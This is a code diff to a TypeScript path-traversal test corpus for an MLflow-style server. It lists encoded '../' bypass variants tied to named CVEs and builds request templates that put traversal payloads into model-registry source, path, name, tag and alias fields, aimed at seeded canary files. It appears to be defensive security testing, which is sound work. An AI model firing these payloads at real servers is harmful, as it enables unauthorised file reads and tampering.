@@ -4,15 +4,20 @@
  * request templates that put a payload into every route × path-taking field the server has.
  */
 
+import type { RegistrySeed } from './registry-bodies.js';
+
 /** Ways to write one `../` (CVE-2023-2780/6977 backslashes, 2024-1560 double decoding, overlong UTF-8, …). */
 const UPS = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '%252e%252e%252f', '..\\', '..%5c', '%c0%ae%c0%ae/', '....//', '..;/', '.%2e/', '%2e./', '\uff0e\uff0e\uff0f', '..%00/', '%2E%2E%2F'];
 const AIMS = ['canary.txt', 'outside/meta.yaml', 'outside'];
 
-/** Payloads aimed at files outside the store, from `base` (the folder the canaries sit in). */
-export function traversalPayloads(base: string): string[] {
+/**
+ * Payloads aimed at files outside the store, from `base` (the folder the canaries sit in); each way
+ * up repeated up to `maxUps` times (the canaries sit at most 3 levels above the store).
+ */
+export function traversalPayloads(base: string, maxUps = 7): string[] {
   const out = new Set<string>();
   for (const up of UPS) {
-    for (let n = 1; n <= 7; n += up === '../' ? 1 : 2) for (const aim of AIMS) out.add(up.repeat(n) + aim);
+    for (let n = 1; n <= maxUps; n += up === '../' ? 1 : 2) for (const aim of AIMS) out.add(up.repeat(n) + aim);
   }
   for (const p of [
     `${base}/canary.txt`,
@@ -70,6 +75,8 @@ export interface AttackRequest {
 
 /** What a template needs of the target's seeded data. */
 export interface Seeded {
+  /** The seeded registered model (tracking targets only; see REGISTRY_TEMPLATES). */
+  registry?: RegistrySeed;
   experimentId: string;
   runId: string;
   modelId: string;
@@ -213,3 +220,36 @@ export const TEMPLATES: Record<string, (p: string, s: Seeded) => AttackRequest> 
   'ajax logged-models/<id>/artifacts/files id': (p) => ({ method: 'GET', path: `${AJAX}/logged-models/${rawPathSegment(p)}/artifacts/files?artifact_file_path=x` }),
   ...TRACE_TEMPLATES,
 };
+
+/**
+ * The model registry × every field that names a file or a location: a version's `source` (which
+ * MLflow 3.18 checks against the run's or logged model's artifact root before the store sees it:
+ * `_validate_source_run`, `_validate_source_model`, `_validate_non_local_source_contains_relative_paths`),
+ * `/model-versions/get-artifact`'s `path` and `name`, and the names the file registry makes folders
+ * and files of (`models/<name>/`, `tags/<key>`, `aliases/<alias>`). New versions go to the scratch
+ * model, so the seed keeps its versions.
+ */
+export const REGISTRY_TEMPLATES: Record<string, (p: string, s: Seeded) => AttackRequest> = {
+  'model-versions/create source (run_id)': (p, s) => createVersion(s, { source: p, run_id: reg(s).runId }),
+  'model-versions/create source runs:/<run>/<p>': (p, s) => createVersion(s, { source: `runs:/${reg(s).runId}/${p}`, run_id: reg(s).runId }),
+  'model-versions/create source <run root>/<p>': (p, s) => createVersion(s, { source: `mlflow-artifacts:/${reg(s).experimentId}/${reg(s).runId}/artifacts/${p}`, run_id: reg(s).runId }),
+  'model-versions/create source mlflow-artifacts:/<p> (run_id)': (p, s) => createVersion(s, { source: `mlflow-artifacts:/${p}`, run_id: reg(s).runId }),
+  'model-versions/create source models:/<m>/<p> (model_id)': (p, s) => createVersion(s, { source: `models:/${reg(s).modelId}/${p}`, model_id: reg(s).modelId }),
+  'model-versions/create source <p> (model_id)': (p, s) => createVersion(s, { source: p, model_id: reg(s).modelId }),
+  'model-versions/get-artifact path= (runs:/ version)': (p, s) => ({ method: 'GET', path: `/model-versions/get-artifact?name=${q(reg(s).name)}&version=1&path=${q(p)}` }),
+  'model-versions/get-artifact path= (logged-model version)': (p, s) => ({ method: 'GET', path: `/model-versions/get-artifact?name=${q(reg(s).name)}&version=2&path=${q(p)}` }),
+  'model-versions/get-artifact name=': (p) => ({ method: 'GET', path: `/model-versions/get-artifact?name=${q(p)}&version=1&path=MLmodel` }),
+  'registered-models/create name': (p) => ({ method: 'POST', path: `${API}/registered-models/create`, ...json({ name: p, tags: [{ key: 'k', value: 'pwned' }] }) }),
+  'registered-models/set-tag key': (p, s) => ({ method: 'POST', path: `${API}/registered-models/set-tag`, ...json({ name: reg(s).scratch, key: p, value: 'pwned' }) }),
+  'model-versions/set-tag key': (p, s) => ({ method: 'POST', path: `${API}/model-versions/set-tag`, ...json({ name: reg(s).scratch, version: '1', key: p, value: 'pwned' }) }),
+  'registered-models/alias alias': (p, s) => ({ method: 'POST', path: `${AJAX}/registered-models/alias`, ...json({ name: reg(s).scratch, alias: p, version: '1' }) }),
+};
+
+function reg(s: Seeded): RegistrySeed {
+  if (!s.registry) throw new Error('traversal-corpus: the registry templates need a seeded registry');
+  return s.registry;
+}
+
+function createVersion(s: Seeded, fields: Record<string, string>): AttackRequest {
+  return { method: 'POST', path: `${API}/model-versions/create`, ...json({ name: reg(s).scratch, ...fields }) };
+}
